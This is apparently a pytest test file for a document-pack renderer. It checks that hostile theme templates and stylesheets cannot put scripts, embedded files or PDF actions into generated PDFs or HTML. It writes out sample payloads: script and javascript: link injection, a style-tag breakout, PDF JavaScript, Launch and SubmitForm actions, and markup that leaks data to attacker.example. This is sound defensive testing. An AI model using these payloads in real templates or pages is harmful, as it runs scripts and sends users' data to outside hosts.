"""No active content from a theme reaches any output: whatever a theme's template or
stylesheet writes, the PDFs hold no action but a web or mail link, no embedded file and no
script, the written HTML runs no script, and preview runs only its own reload script."""

from __future__ import annotations

import http.client
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pikepdf
import pytest
import tinyhtml5

from briefpack.render.scrub import HTML_POLICY, safe_link, scrub_pdf, style_text, with_policy

from conftest import REPO, run

CHROMIUM = "/usr/bin/chromium"
#: What the theme's file holds; not one byte of it may reach a PDF.
PAYLOAD = b"PAYLOAD-7f3a: a file of the theme, e.g. a payload.exe"
#: Markup a hostile template writes before the pack's own body.
HOSTILE_BODY = """\
<body onload="document.title = 'RAN'">
<script>document.title = 'RAN'</script>
<p onclick="document.title = 'RAN'">
<a id="js" href="javascript:document.title = 'RAN'">js</a>
<a href=" JavaScript:app.alert(1)">js again</a>
<a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>
<a href="file:///etc/passwd">file</a>
<a href="payload.txt">relative</a>
<a rel="attachment" href="payload.txt" download="payload.exe">attached</a>
<a href="https://example.com/kept">web</a>
<a href="mailto:office@example.com">mail</a>
</p>
<form action="#collect"><input type="submit" value="Send"></form>
"""
HOSTILE_HEAD = '<link rel="attachment" href="payload.txt" title="payload">\n</head>'
#: A stylesheet that ends its <style> element to run a script in the HTML.
HOSTILE_CSS = "\n/* */ </style><script>document.title = 'RAN'</script><style>\n"
#: Keys and kinds of action that make a PDF act (or carry a file).
ACTIVE = {
    "/JS",
    "/JavaScript",
    "/Launch",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/EF",
    "/FileAttachment",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/AA",
    "/AF",
    "/OpenAction",
    "/ResetForm",
    "/Rendition",
    "/RichMediaExecute",
}
SESSIONS = "".join(
    f"""\
      - title: Session {number}
        start: "{8 + number}:00"
        end: "{8 + number}:45"
        questions:
          - title: Question {number}
            question: What about {number}? See [the memo](https://example.com/memo).
"""
    for number in range(1, 5)
)
PACK = f"""\
title: Hostile theme
days:
  - date: 2026-03-02
    sessions:
{SESSIONS}options:
  theme: brand
"""


def hostile_theme(folder: Path) -> None:
    """The built-in template and stylesheet, with active content added to each."""
    folder.mkdir()
    template = (REPO / "templates" / "pack.html.j2").read_text(encoding="utf-8")
    template = template.replace("</head>", HOSTILE_HEAD, 1).replace("<body>", HOSTILE_BODY, 1)
    (folder / "pack.html.j2").write_text(template, encoding="utf-8")
    css = (REPO / "templates" / "pack.css").read_text(encoding="utf-8")
    (folder / "pack.css").write_text(css + HOSTILE_CSS, encoding="utf-8")
    (folder / "payload.txt").write_bytes(PAYLOAD)
    (folder / "theme.yaml").write_text(
        "name: brand\ntemplate: pack.html.j2\nstylesheet: pack.css\n", encoding="utf-8"
    )


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile theme's pack built as PDF (a book of parts, sessions) and HTML, and again
    with answer fields (one document: a form is not joined from parts) in ``fields/``."""
    folder = tmp_path_factory.mktemp("hostile")
    hostile_theme(folder / "brand")
    pack = folder / "pack.yaml"
    pack.write_text(PACK, encoding="utf-8")
    code, _, err = run("build", str(pack), "-o", str(folder / "out"), "-f", "pdf", "-f", "html")
    assert code == 0, err
    assert (folder / "out" / ".briefpack-parts" / "pack").is_dir()  # made as a book
    fields = ["-o", str(folder / "out" / "pack" / "fields"), "--no-sessions", "--answer-fields"]
    code, _, err = run("build", str(pack), "-f", "pdf", *fields)
    assert code == 0, err
    return folder / "out" / "pack"


def pdfs(built: Path) -> list[Path]:
    """The book, the session packs and the pack with answer fields."""
    found = [built / "pack.pdf", *sorted((built / "sessions").glob("*.pdf"))]
    found.append(built / "fields" / "pack" / "pack.pdf")
    assert len(found) == 6
    return found


def active_content(document: pikepdf.Pdf) -> list[str]:
    """Every key, kind or target of every object that would make the PDF act."""
    found = []
    for item in document.objects:
        values = [item.stream_dict] if isinstance(item, pikepdf.Stream) else [item]
        while values:
            value = values.pop()
            if isinstance(value, pikepdf.Array):
                values.extend(entry for entry in value if _direct(entry))
            elif isinstance(value, pikepdf.Dictionary):
                for key, entry in value.items():
                    if key in ACTIVE:
                        found.append(key)
                    if key in ("/S", "/Subtype", "/Type") and str(entry) in ACTIVE:
                        found.append(str(entry))
                    if key == "/URI" and not re.match(r"(?i)(https?|mailto):", str(entry)):
                        found.append(f"/URI {entry}")
                    if _direct(entry):
                        values.append(entry)
    return found


def _direct(value: object) -> bool:
    """A dictionary or array inside an object (an indirect one is walked as an object)."""
    return isinstance(value, (pikepdf.Dictionary, pikepdf.Array)) and not value.is_indirect


def uris(document: pikepdf.Pdf) -> set[str]:
    return {
        str(annotation.A.URI)
        for page in document.pages
        for annotation in page.obj.get("/Annots", [])
        if "/A" in annotation and "/URI" in annotation.A
    }


def test_no_pdf_of_a_hostile_theme_holds_an_action_a_file_or_a_script(built: Path) -> None:
    for path in pdfs(built):
        with pikepdf.open(path) as document:
            assert active_content(document) == [], path
            # The content's own links, and the template's web and mail links, are kept.
            assert "https://example.com/memo" in uris(document), path
            assert "https://example.com/kept" in uris(document), path
            assert "mailto:office@example.com" in uris(document), path
        assert PAYLOAD not in path.read_bytes(), path


def test_the_answer_fields_stay_fillable_and_only_they(built: Path) -> None:
    with pikepdf.open(built / "fields" / "pack" / "pack.pdf") as document:
        fields = document.Root.AcroForm.Fields
        # The template's submit button is left out; the four questions' fields stay.
        assert {str(field.FT) for field in fields} == {"/Tx"}
        assert sum(str(field.T).startswith("answer:") for field in fields) == 4


def test_every_link_left_is_in_the_structure_tree_and_every_reference_has_its_link(
    built: Path,
) -> None:
    for path in pdfs(built):
        with pikepdf.open(path) as document:
            annotations = {
                annotation.objgen
                for page in document.pages
                for annotation in page.obj.get("/Annots", [])
            }
            referenced = {
                item.Obj.objgen
                for item in document.objects
                if isinstance(item, pikepdf.Dictionary) and item.get("/Type") == "/OBJR"
            }
            assert referenced == annotations, path
            assert "pdfuaid" in str(document.open_metadata()), path


def test_the_written_html_puts_its_policy_first_and_the_stylesheet_cannot_end_its_element(
    built: Path,
) -> None:
    html = (built / "pack.html").read_text(encoding="utf-8")
    meta = f'<meta http-equiv="Content-Security-Policy" content="{HTML_POLICY}">'
    assert html.startswith("<!DOCTYPE html>" + meta)
    assert "script-src" not in HTML_POLICY
    assert "default-src 'none'" in HTML_POLICY
    assert "</style><script>" not in html
    assert "<\\/style><script>" in html


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium is not installed")
def test_no_script_of_a_hostile_theme_runs_when_the_written_html_is_opened(built: Path) -> None:
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            page = browser.new_page()
            page.goto((built / "pack.html").as_uri())
            page.click("#js")
            page.click("p")
            page.wait_for_timeout(300)
            assert page.title() == "Hostile theme"
            # The page still shows as styled: the theme's fonts load under the policy.
            assert page.evaluate("document.fonts.check('10pt \"Briefpack Body\"')")
            assert page.evaluate("getComputedStyle(document.body).overflowWrap") == "anywhere"
        finally:
            browser.close()


@pytest.mark.parametrize(
    ("link_type", "target", "kept"),
    [
        ("internal", "session-one", True),
        ("external", "https://example.com/", True),
        ("external", "HTTP://example.com/", True),
        ("external", "mailto:a@example.com", True),
        ("external", "javascript:app.alert(1)", False),
        ("external", " JavaScript:app.alert(1)", False),
        ("external", "vbscript:x", False),
        ("external", "data:text/html,x", False),
        ("external", "file:///etc/passwd", False),
        ("external", "ftp://example.com/", False),
        ("external", "no-scheme", False),
        ("attachment", "https://example.com/x", False),
    ],
)
def test_a_pdf_link_is_kept_only_to_an_anchor_or_a_web_or_mail_address(
    link_type: str, target: str, kept: bool
) -> None:
    assert safe_link(link_type, target) is kept


def action(**keys: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **keys)


def link(target: pikepdf.Dictionary | None = None, **keys: object) -> pikepdf.Dictionary:
    if target is not None:
        keys["A"] = target
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, **keys)


def test_the_pdf_pass_removes_whatever_acts_and_keeps_web_mail_and_inner_links() -> None:
    """The second line of defence, for a road WeasyPrint does not take today."""
    document = pikepdf.new()
    document.add_blank_page()
    script = action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = script
    document.Root.AA = pikepdf.Dictionary(WC=script)
    document.Root.AF = pikepdf.Array([])
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([])),
    )
    page = document.pages[0].obj
    page.AA = pikepdf.Dictionary(O=script)
    web = action(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.com/"))
    kept = [
        link(web),
        link(Dest=pikepdf.String("session-one")),
        link(action(S=pikepdf.Name.GoTo, D=pikepdf.String("day-one"))),
    ]
    hostile = [
        link(script),
        link(action(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)"))),
        link(action(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))),
        link(action(S=pikepdf.Name.URI, URI=pikepdf.String("https://x.example/"), Next=script)),
        link(web, AA=pikepdf.Dictionary(E=script)),
    ]
    attachment = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment)
    page.Annots = document.make_indirect(pikepdf.Array([*kept, *hostile, attachment]))
    submit = action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/"))
    field = pikepdf.Dictionary(FT=pikepdf.Name.Btn, A=submit, AA=pikepdf.Dictionary(K=script))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    assert active_content(document) != []

    assert scrub_pdf(document) == 14
    saved = io.BytesIO()
    document.save(saved)
    with pikepdf.open(saved) as scrubbed:
        assert active_content(scrubbed) == []
        annotations = scrubbed.pages[0].obj.Annots
        assert len(annotations) == len(kept) + len(hostile)
        assert uris(scrubbed) == {"https://example.com/"}
        assert str(annotations[2].A.S) == "/GoTo"
        assert "/Dest" in annotations[1]


def test_style_text_leaves_no_end_tag_and_changes_nothing_else() -> None:
    assert style_text("a { content: '</style>' }") == "a { content: '<\\/style>' }"
    assert style_text("a { b: c; }") == "a { b: c; }"
    assert "</" not in style_text("x </STYLE> </ style </script")


def test_the_policy_comes_after_the_doctype_and_before_anything_else() -> None:
    assert with_policy("<!doctype html><script>x</script>", "P").startswith(
        '<!doctype html><meta http-equiv="Content-Security-Policy" content="P"><script>'
    )
    # A doctype ends at its first ">", even inside quotes: nothing can hide the policy.
    assert with_policy('<!DOCTYPE html "a>b">', "P").startswith('<!DOCTYPE html "a><meta')
    assert with_policy("<script>x</script>", "P").startswith("<meta")


# ---------------------------------------------------------------- preview


@pytest.fixture
def preview(tmp_path: Path) -> Iterator[tuple[int, object]]:
    """``serve`` over a folder with a hostile page and a picture: its port and reloads."""
    from briefpack.authoring.preview import Reloads, serve

    (tmp_path / "pack").mkdir()
    page = "<!DOCTYPE html><html><head><title>Pack</title></head><body>"
    page += HOSTILE_BODY + "<p>secret answers</p></body></html>"
    (tmp_path / "pack" / "pack.html").write_text(with_policy(page), encoding="utf-8")
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    (tmp_path / "pack" / "logo.svg").write_text(svg, encoding="utf-8")
    reloads = Reloads()
    running = serve(tmp_path, "127.0.0.1", 0, reloads)
    try:
        yield running.server_address[1], reloads
    finally:
        reloads.close()
        running.shutdown()
        running.server_close()


def get(port: int, path: str) -> tuple[int, dict[str, str], str]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        headers = {name.lower(): value for name, value in response.getheaders()}
        return response.status, headers, response.read().decode("utf-8", "replace")
    finally:
        connection.close()


@pytest.mark.parametrize("path", ["/", "/pack/pack.html", "/pack/logo.svg", "/missing.html"])
def test_every_preview_response_forbids_scripts_but_its_own_and_sniffing(
    preview: tuple[int, object], path: str
) -> None:
    port, _ = preview
    _, headers, body = get(port, path)
    policy = headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "base-uri 'none'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1]
    assert headers["x-content-type-options"] == "nosniff"
    nonces = re.findall(r"'nonce-([^']+)'", policy)
    if path == "/pack/pack.html":
        # Only preview's reload script bears the nonce, and it comes first.
        assert len(nonces) == 1
        assert body.count(f'nonce="{nonces[0]}"') == 1
        assert body.index(f'nonce="{nonces[0]}"') < body.index("Content-Security-Policy")
    else:
        assert nonces == []
        assert "script-src 'none'" in policy


def test_each_page_served_has_a_new_nonce(preview: tuple[int, object]) -> None:
    port, _ = preview
    first = get(port, "/pack/pack.html")[1]["content-security-policy"]
    second = get(port, "/pack/pack.html")[1]["content-security-policy"]
    assert first != second


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium is not installed")
def test_in_preview_the_themes_script_never_runs_and_the_reload_still_does(
    preview: tuple[int, object],
) -> None:
    from briefpack.authoring.preview import Reloads

    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    port, reloads = preview
    assert isinstance(reloads, Reloads)
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            page = browser.new_page()
            page.goto(f"http://127.0.0.1:{port}/pack/pack.html")
            page.click("#js")
            page.wait_for_timeout(300)
            assert page.title() == "Pack"
            page.evaluate("window.marker = 1")
            page.wait_for_timeout(500)  # the event stream is open
            reloads.bump()
            page.wait_for_function("window.marker === undefined", timeout=15_000)
            assert page.title() == "Pack"
        finally:
            browser.close()


def test_the_attackers_stylesheet_alone_cannot_end_the_style_element(tmp_path: Path) -> None:
    theme = tmp_path / "brand"
    theme.mkdir()
    css = (REPO / "templates" / "pack.css").read_text(encoding="utf-8") + HOSTILE_CSS
    (theme / "pack.css").write_text(css, encoding="utf-8")
    (theme / "theme.yaml").write_text("name: brand\nstylesheet: pack.css\n", encoding="utf-8")
    pack = tmp_path / "pack.yaml"
    pack.write_text(PACK, encoding="utf-8")
    code, _, err = run("build", str(pack), "-o", str(tmp_path / "out"), "-f", "html")
    assert code == 0, err
    html = (tmp_path / "out" / "pack" / "pack.html").read_text(encoding="utf-8")
    # As a browser parses it: the script stays text of the stylesheet, never an element.
    tags = [element.tag for element in tinyhtml5.parse(html).iter()]
    assert not [tag for tag in tags if str(tag).endswith("}script")]
    assert tags.count("{http://www.w3.org/1999/xhtml}style") == 2


#: Markup a template may write that the policy does not govern: each navigates
#: away or reaches another host when the page is opened.
REACHING_OUT = [
    '<meta http-equiv="refresh" content="0; url=https://attacker.example/?d={{ pack.title }}">',
    '<link rel="dns-prefetch" href="//{{ pack.title|lower|replace(" ", "-") }}.attacker.example">',
    '<link rel="preconnect" href="https://attacker.example">',
    '<link rel="Prefetch" href="https://attacker.example/next">',
    '<base href="https://attacker.example/">',
    '<iframe src="https://attacker.example/"></iframe>',
    '<form action="https://attacker.example/collect"></form>',
    '<a ping="https://attacker.example/ping" href="#top">top</a>',
]


def reaching_theme(folder: Path, markup: str) -> tuple[Path, int]:
    """A theme whose template is the built-in one with ``markup`` on a line of its own."""
    folder.mkdir()
    template = (REPO / "templates" / "pack.html.j2").read_text(encoding="utf-8")
    template = template.replace("</head>", f"{markup}\n</head>", 1)
    (folder / "pack.html.j2").write_text(template, encoding="utf-8")
    (folder / "theme.yaml").write_text("name: brand\ntemplate: pack.html.j2\n", encoding="utf-8")
    line = template.splitlines().index(markup) + 1
    return folder / "pack.html.j2", line


@pytest.mark.parametrize("markup", REACHING_OUT)
def test_markup_that_navigates_or_reaches_out_is_refused_at_its_template_line_by_validate_and_build(
    tmp_path: Path, markup: str
) -> None:
    template, line = reaching_theme(tmp_path / "brand", markup)
    pack = tmp_path / "pack.yaml"
    pack.write_text(PACK, encoding="utf-8")
    for command in (["validate", str(pack)], ["build", str(pack), "-o", str(tmp_path / "out")]):
        code, _, err = run(*command, "-f", "html") if command[0] == "build" else run(*command)
        assert code == 1, err
        assert f"{template}:{line}:" in err, err
        assert "is refused" in err
        assert "Traceback" not in err
    assert not (tmp_path / "out" / "pack" / "pack.html").exists()


def test_a_content_type_meta_and_a_plain_stylesheet_link_are_kept(tmp_path: Path) -> None:
    markup = '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
    reaching_theme(tmp_path / "brand", markup + '<link rel="stylesheet" href="fonts/x.css">')
    pack = tmp_path / "pack.yaml"
    pack.write_text(PACK, encoding="utf-8")
    code, _, err = run("build", str(pack), "-o", str(tmp_path / "out"), "-f", "html")
    assert code == 0, err
